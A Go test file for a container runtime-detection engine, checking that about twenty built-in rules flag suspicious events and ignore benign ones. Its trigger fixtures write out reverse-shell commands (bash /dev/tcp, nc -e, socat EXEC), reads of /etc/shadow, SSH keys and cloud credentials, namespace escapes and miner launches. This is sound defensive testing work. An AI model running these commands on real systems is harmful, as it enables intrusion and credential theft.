package rules

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/pavesec/pave/internal/check"
	"github.com/pavesec/pave/internal/sensor/event"
)

type ruleCase struct {
	name string
	ev   *event.Event
	want []string // rule ids that fire, sorted; nil for none
}

// triggers fire a built-in rule each (and only the rules listed).
func triggers() []ruleCase {
	return []ruleCase{
		{"docker exec -it bash", execEv("bash", tty, parents("runc:[2:INIT]")), []string{"PAVE-RT-001"}},
		{"kubectl exec -it sh, parent gone", execEv("sh", tty, parents()), []string{"PAVE-RT-001"}},
		{"nginx runs sh -c id", execEv("sh", args("-c", "id"), parents("nginx", "nginx")), []string{"PAVE-RT-002"}},
		{"java runs bash", execEv("bash", args("-c", "uname -a"), parents("java")), []string{"PAVE-RT-002"}},
		{"apt-get install", execEv("apt-get", args("install", "-y", "nmap"), parents("bash")), []string{"PAVE-RT-003"}},
		{"apk add", execEv("apk", args("add", "curl"), parents("sh")), []string{"PAVE-RT-003"}},
		{"dpkg -i", execEv("dpkg", args("-i", "x.deb"), parents("bash")), []string{"PAVE-RT-003"}},
		{"pip install", execEv("pip", args("install", "requests"), parents("bash")), []string{"PAVE-RT-004"}},
		{"python -m pip install", execEv("python3", args("-m", "pip", "install", "x"), parents("bash")), []string{"PAVE-RT-004"}},
		{"npm install", execEv("npm", args("install", "left-pad"), parents("bash")), []string{"PAVE-RT-004"}},
		{"npm i", execEv("npm", args("i"), parents("bash")), []string{"PAVE-RT-004"}},
		{"bash /dev/tcp from nginx", execEv("bash", args("-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), parents("nginx")),
			[]string{"PAVE-RT-002", "PAVE-RT-005"}},
		{"python /dev/tcp", execEv("python3", args("-c", "import os; os.system('sh >/dev/tcp/1.2.3.4/9 0>&1')"), parents("bash")),
			[]string{"PAVE-RT-005"}},
		{"nc -e", execEv("nc", args("-e", "/bin/sh", "10.0.0.1", "4444"), parents("bash")), []string{"PAVE-RT-005"}},
		{"ncat --sh-exec", execEv("ncat", args("--sh-exec", "bash", "10.0.0.1", "9001"), parents("bash")), []string{"PAVE-RT-005"}},
		{"socat exec", execEv("socat", args("TCP:10.0.0.1:4444", "EXEC:/bin/bash"), parents("bash")), []string{"PAVE-RT-005"}},
		{"bash connects out", connectEv("bash", "ipv4", "203.0.113.9", 9001), []string{"PAVE-RT-006"}},
		{"sh connects out over ipv6", connectEv("sh", "ipv6", "2001:db8::1", 9001), []string{"PAVE-RT-006"}},
		{"cat /etc/shadow", openEv("cat", "/etc/shadow", false, parents("bash")), []string{"PAVE-RT-007"}},
		{"read root ssh key", openEv("scp", "/root/.ssh/id_ed25519", false), []string{"PAVE-RT-007"}},
		{"read aws credentials", openEv("python3", "/home/app/.aws/credentials", false), []string{"PAVE-RT-007"}},
		{"read kubeconfig", openEv("curl", "/root/.kube/config", false), []string{"PAVE-RT-007"}},
		{"cat SA token", openEv("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", false, parents("bash")),
			[]string{"PAVE-RT-008"}},
		{"curl drops kubectl", openEv("curl", "/usr/bin/kubectl", true, parents("bash")), []string{"PAVE-RT-009"}},
		{"write /lib", openEv("cp", "/lib/x86_64-linux-gnu/libc.so.6", true), []string{"PAVE-RT-009"}},
		{"edit /etc/passwd", openEv("vi", "/etc/passwd", true, parents("bash")), []string{"PAVE-RT-010"}},
		{"cron job", openEv("bash", "/etc/cron.d/evil", true, parents("nginx")), []string{"PAVE-RT-010"}},
		{"connect docker.sock", connectEv("curl", "unix", "/var/run/docker.sock", 0), []string{"PAVE-RT-011"}},
		{"connect mounted docker.sock", connectEv("docker", "unix", "/host/run/docker.sock", 0), []string{"PAVE-RT-011"}},
		{"open containerd.sock", openEv("python3", "/run/containerd/containerd.sock", false), []string{"PAVE-RT-011"}},
		{"unshare user+mount ns", changeEv(event.Unshare, "unshare", event.Change{Flags: []string{"CLONE_NEWUSER", "CLONE_NEWNS"}}),
			[]string{"PAVE-RT-012"}},
		{"setns", changeEv(event.Setns, "exploit", event.Change{Flags: []string{"CLONE_NEWNS"}}), []string{"PAVE-RT-012"}},
		{"nsenter", execEv("nsenter", args("-t", "1", "-m", "-u", "-i", "-n", "sh"), parents("bash")), []string{"PAVE-RT-013"}},
		{"mount host disk", changeEv(event.Mount, "mount", event.Change{Source: "/dev/sda1", FSType: "ext4"}), []string{"PAVE-RT-014"}},
		{"pool port 3333", connectEv("kthreadd", "ipv4", "45.9.148.21", 3333), []string{"PAVE-RT-015"}},
		{"pool port 14444", connectEv("java", "ipv4", "45.9.148.21", 14444), []string{"PAVE-RT-015"}},
		{"xmrig", execEv("xmrig", args("-o", "pool.example:443"), parents("sh")), []string{"PAVE-RT-016"}},
		{"stratum url", execEv("kworkerds", args("-o", "stratum+tcp://pool.example:3333"), parents("sh")), []string{"PAVE-RT-016"}},
		{"ptrace attach", changeEv(event.Ptrace, "gdb", event.Change{TargetPID: 1, Request: "PTRACE_ATTACH"}), []string{"PAVE-RT-017"}},
		{"ptrace pokedata", changeEv(event.Ptrace, "inject", event.Change{TargetPID: 7, Request: "PTRACE_POKEDATA"}), []string{"PAVE-RT-017"}},
		{"memfd exec event", newEv(event.MemfdExec, "x", exe("memfd:payload (deleted)")), []string{"PAVE-RT-018"}},
		{"exec from memfd path", execEv("3", exe("/memfd:kinsing (deleted)")), []string{"PAVE-RT-018"}},
		{"non-root setuid(0)", changeEv(event.Setuid, "exploit", event.Change{NewUID: u32(0)}, euid(1000), ret(-1)), []string{"PAVE-RT-019"}},
		{"write to executable", func() *event.Event {
			ev := newEv(event.WriteExec, "curl")
			ev.File = &event.File{Path: "/app/bin/server", Write: true, Flags: 0o1101}
			return ev
		}(), []string{"PAVE-RT-020"}},
	}
}

// benign is what an nginx container and its entrypoint do, and what a
// runtime does setting a container up: no built-in rule may fire.
func benign() []ruleCase {
	writeExecByDpkg := newEv(event.WriteExec, "dpkg", parents("apt-get", "bash"))
	writeExecByDpkg.File = &event.File{Path: "/usr/bin/curl", Write: true}
	return []ruleCase{
		{"entrypoint script as pid 1", execEv("docker-entrypoi", exe("/docker-entrypoint.sh"), vpid(1), parents("containerd-shim")), nil},
		{"sh entrypoint as pid 1", execEv("sh", args("/entrypoint.sh"), vpid(1), parents("runc:[2:INIT]")), nil},
		{"entrypoint runs a sh script", execEv("sh", args("/docker-entrypoint.d/20-envsubst-on-templates.sh"), parents("docker-entrypoi")), nil},
		{"tini runs sh", execEv("sh", args("-c", "exec app"), parents("tini")), nil},
		{"nested shell", execEv("bash", parents("sh", "runc:[2:INIT]")), nil},
		{"nested interactive shell", execEv("bash", tty, parents("bash")), nil},
		{"nginx exec", execEv("nginx", args("-g", "daemon off;"), vpid(1), parents("docker-entrypoi")), nil},
		{"nginx reads its config", openEv("nginx", "/etc/nginx/nginx.conf", false), nil},
		{"nginx reads /etc/passwd", openEv("nginx", "/etc/passwd", false), nil},
		{"nginx writes its log", openEv("nginx", "/var/log/nginx/access.log", true), nil},
		{"nginx writes its pid", openEv("nginx", "/run/nginx.pid", true), nil},
		{"entrypoint sed -i conf", openEv("sed", "/etc/nginx/conf.d/sedX1b2c3", true, parents("10-listen-on-ip", "docker-entrypoi")), nil},
		{"runtime writes resolv.conf", openEv("runc:[2:INIT]", "/etc/resolv.conf", true), nil},
		{"nginx accepts", func() *event.Event {
			ev := newEv(event.Accept, "nginx")
			ev.Net = &event.Net{Family: "ipv4", Protocol: "tcp", SrcAddr: "172.17.0.2", SrcPort: 80, DstAddr: "172.17.0.1", DstPort: 51000}
			return ev
		}(), nil},
		{"nginx connects upstream", connectEv("nginx", "ipv4", "10.0.0.5", 8080), nil},
		{"curl to https", connectEv("curl", "ipv4", "93.184.216.34", 443, parents("sh")), nil},
		{"shell to loopback", connectEv("bash", "ipv4", "127.0.0.1", 9001), nil},
		{"miner port on loopback", connectEv("app", "ipv4", "127.0.0.1", 3333), nil},
		{"app socket", connectEv("app", "unix", "/tmp/app.sock", 0), nil},
		{"nc port scan", execEv("nc", args("-z", "db", "5432"), parents("sh")), nil},
		{"app reads SA token", openEv("controller", "/var/run/secrets/kubernetes.io/serviceaccount/token", false, parents("containerd-shim")), nil},
		{"sshd reads shadow", openEv("sshd", "/etc/shadow", false), nil},
		{"dpkg writes /usr/bin under apt", openEv("dpkg", "/usr/bin/curl.dpkg-new", true, parents("apt-get", "bash")), nil},
		{"dpkg writes executable under apt", writeExecByDpkg, nil},
		{"nginx workers drop root", changeEv(event.Setuid, "nginx", event.Change{NewUID: u32(101)}), nil},
		{"gosu drops root", changeEv(event.Setuid, "gosu", event.Change{NewUID: u32(999)}), nil},
		{"non-root setuid to itself", changeEv(event.Setuid, "app", event.Change{NewUID: u32(1000)}, euid(1000)), nil},
		{"runc mounts proc", changeEv(event.Mount, "runc:[2:INIT]", event.Change{Source: "proc", FSType: "proc"}), nil},
		{"runc setns", changeEv(event.Setns, "runc:[1:CHILD]", event.Change{Flags: []string{"CLONE_NEWNET"}}), nil},
		{"unshare net only", changeEv(event.Unshare, "app", event.Change{Flags: []string{"CLONE_NEWNET"}}), nil},
		{"runc memfd", execEv("runc:[2:INIT]", exe("memfd:runc_cloned:/proc/self/exe")), nil},
		{"ptrace traceme", changeEv(event.Ptrace, "strace", event.Change{Request: "PTRACE_TRACEME"}), nil},
		{"exit", newEv(event.Exit, "nginx"), nil},
		{"mmap", func() *event.Event {
			ev := newEv(event.Mmap, "nginx")
			ev.File = &event.File{Path: "/usr/lib/x86_64-linux-gnu/libssl.so.3"}
			return ev
		}(), nil},
		{"unknown type", newEv(event.Type("future"), "x"), nil},
	}
}

func TestBuiltinTriggers(t *testing.T) {
	e := builtinEngine(t)
	for _, tc := range triggers() {
		t.Run(tc.name, func(t *testing.T) {
			if diff := cmp.Diff(tc.want, firedIDs(e, tc.ev)); diff != "" {
				t.Errorf("fired (-want +got):\n%s", diff)
			}
		})
	}
}

func TestBuiltinBenign(t *testing.T) {
	e := builtinEngine(t)
	for _, tc := range benign() {
		t.Run(tc.name, func(t *testing.T) {
			if got := firedIDs(e, tc.ev); len(got) != 0 {
				t.Errorf("benign event fired %v", got)
			}
		})
	}
}

// TestBuiltinHostQuiet: every built-in rule is scoped to containers.
func TestBuiltinHostQuiet(t *testing.T) {
	e := builtinEngine(t)
	for _, tc := range triggers() {
		onHost(tc.ev)
		if got := firedIDs(e, tc.ev); len(got) != 0 {
			t.Errorf("%s on the host fired %v", tc.name, got)
		}
	}
}

// TestBuiltinCoverage: every built-in rule has a trigger case, and its
// metadata passes the catalogue's checks.
func TestBuiltinCoverage(t *testing.T) {
	e := builtinEngine(t)
	covered := map[string]bool{}
	for _, tc := range triggers() {
		for _, id := range tc.want {
			covered[id] = true
		}
	}
	rules := e.Rules()
	if len(rules) != 20 {
		t.Errorf("%d built-in rules, want 20", len(rules))
	}
	for _, r := range rules {
		if !covered[r.ID] {
			t.Errorf("%s (%s) has no trigger case", r.ID, r.Title)
		}
	}
	if err := check.Validate(rules); err != nil {
		t.Error(err)
	}
}

func TestEnforcedExecNames(t *testing.T) {
	e := builtinEngine(t)
	got := e.EnforcedExecNames()
	for _, want := range []string{"apt-get", "dpkg", "apk", "xmrig", "minerd", "cpuminer", "nsenter"} {
		if !slices.Contains(got, want) {
			t.Errorf("EnforcedExecNames lacks %s: %v", want, got)
		}
	}
	for _, not := range []string{"bash", "sh", "nc", "pip", "npm"} {
		if slices.Contains(got, not) {
			t.Errorf("EnforcedExecNames has %s, which no enforcing rule kills by name", not)
		}
	}
	if !e.Enforces("PAVE-RT-003") || e.Enforces("PAVE-RT-001") {
		t.Errorf("Enforces: RT-003 %v, RT-001 %v", e.Enforces("PAVE-RT-003"), e.Enforces("PAVE-RT-001"))
	}
}

func TestFinding(t *testing.T) {
	e := builtinEngine(t)
	ev := execEv("bash", args("-c", "mysql -h db -u app -pS3cr3tPassw0rd --password=hunter2hunter2 https://bob:Tr0ub4dor3@example.com TOKEN=abcdef123456"),
		parents("nginx"))
	fs := e.Analyze(ev)
	if len(fs) != 1 {
		t.Fatalf("%d findings, want 1", len(fs))
	}
	f := fs[0]
	if f.Rule.ID != "PAVE-RT-002" || f.Rule.Kind != "runtime" || f.Severity.String() != "low" {
		t.Errorf("rule %+v severity %v", f.Rule, f.Severity)
	}
	if f.Location.Container != testCID || f.Location.Process != "4321 bash" {
		t.Errorf("location %+v", f.Location)
	}
	if f.Target.Kind != "container" || f.Target.Name != "docker.io/library/nginx:1.27" || !strings.HasPrefix(f.Target.Digest, "sha256:") {
		t.Errorf("target %+v", f.Target)
	}
	for _, secret := range []string{"S3cr3tPassw0rd", "hunter2hunter2", "Tr0ub4dor3", "abcdef123456"} {
		if strings.Contains(f.Evidence, secret) {
			t.Errorf("evidence holds the secret %q: %s", secret, f.Evidence)
		}
	}
	if !strings.Contains(f.Evidence, "parent=nginx") || !strings.Contains(f.Evidence, "mysql -h db") {
		t.Errorf("evidence lost its context: %s", f.Evidence)
	}
	if f.Message != "Shell spawned by a non-shell program" {
		t.Errorf("message %q", f.Message)
	}
	if f.Fingerprint == "" || f.Rule.Remediation == "" || len(f.Rule.Controls) == 0 {
		t.Errorf("fingerprint %q remediation %q controls %v", f.Fingerprint, f.Rule.Remediation, f.Rule.Controls)
	}
}

// TestMemfdTwin: the sensor reports an exec from a memfd as an Exec then a
// MemfdExec twin; together they fire each rule once, the memfd rule on the
// twin.
func TestMemfdTwin(t *testing.T) {
	e := builtinEngine(t)
	ex := execEv("sh", args("-c", "id"), exe("/dev/fd/3"), parents("nginx"))
	twin := *ex
	twin.Type = event.MemfdExec
	twin.File = &event.File{Path: "/memfd:x (deleted)"}
	if diff := cmp.Diff([]string{"PAVE-RT-002"}, firedIDs(e, ex)); diff != "" {
		t.Errorf("exec (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"PAVE-RT-018"}, firedIDs(e, &twin)); diff != "" {
		t.Errorf("twin (-want +got):\n%s", diff)
	}
	// A MemfdExec that follows no exec of its own (a lost event) stands
	// alone and fires everything an execve would.
	lone := twin
	lone.Proc.PID = 999
	if diff := cmp.Diff([]string{"PAVE-RT-002", "PAVE-RT-018"}, firedIDs(e, &lone)); diff != "" {
		t.Errorf("lone twin (-want +got):\n%s", diff)
	}
}

// TestProcTable: events after an exec carry only pid and comm; the engine
// fills in the exec's arguments and ancestors, or the parent's for a
// forked child, and forgets a process at its exit.
func TestProcTable(t *testing.T) {
	e, _ := fromYAML(t, oneRule("evt.type = openat and proc.pname = nginx and proc.cmdline = 'cat /etc/x'"))
	bare := func(pid, ppid uint32, comm string) *event.Event {
		ev := openEv(comm, "/etc/x", false, parents())
		ev.Proc.PID, ev.Proc.PPID, ev.Proc.Exe, ev.Proc.Args = pid, ppid, "", nil
		return ev
	}
	if fires(e, bare(10, 9, "cat")) {
		t.Fatal("fired with nothing known of the process")
	}
	ex := execEv("cat", args("/etc/x"), parents("nginx"))
	ex.Proc.PID = 10
	e.Analyze(ex)
	if !fires(e, bare(10, 9, "cat")) {
		t.Error("open after exec: arguments and parent not filled in")
	}
	if fires(e, bare(10, 9, "other")) {
		t.Error("a different command name (a later exec the sensor missed) used the old exec's data")
	}
	// A forked child of pid 10 (no exec of its own) runs the same image.
	if strings.Contains(fmt.Sprint(e.Analyze(bare(11, 10, "cat"))), "falco:r") {
		t.Error("forked child took its parent's parent as its own (its parent is cat)")
	}
	e2, _ := fromYAML(t, oneRule("evt.type = openat and proc.pname = cat and proc.aname[2] = nginx and proc.cmdline = 'cat /etc/x'"))
	e2.Analyze(ex)
	if !fires(e2, bare(11, 10, "cat")) {
		t.Error("forked child: parent chain and image not filled in from the parent")
	}
	// The parent's command line comes from the parent's exec.
	e3, _ := fromYAML(t, oneRule("evt.type = execve and proc.pcmdline = 'nginx -g daemon off;'"))
	child := execEv("sh", args("-c", "id"), func(ev *event.Event) {
		ev.Proc.Ancestors = []event.Ancestor{{PID: 20, Comm: "nginx"}}
	})
	if fires(e3, child) {
		t.Error("proc.pcmdline answered before the parent's exec was seen")
	}
	nginx := execEv("nginx", args("-g", "daemon off;"))
	nginx.Proc.PID = 20
	e3.Analyze(nginx)
	if !fires(e3, child) {
		t.Error("proc.pcmdline not taken from the parent's exec")
	}
	exit := newEv(event.Exit, "cat", parents())
	exit.Proc.PID, exit.Proc.Exe, exit.Proc.Args = 10, "", nil
	e.Analyze(exit)
	if fires(e, bare(10, 9, "cat")) {
		t.Error("process remembered after its exit")
	}
}
